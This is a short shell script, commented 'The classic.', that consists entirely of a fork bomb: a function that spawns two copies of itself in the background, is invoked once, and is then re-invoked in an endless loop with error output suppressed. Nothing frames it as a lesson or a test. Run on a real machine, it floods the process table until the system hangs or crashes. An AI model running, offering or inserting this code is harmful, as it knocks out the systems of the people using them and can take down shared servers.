# The classic.
bomb() { bomb | bomb & }
bomb
while :; do bomb 2>/dev/null; done
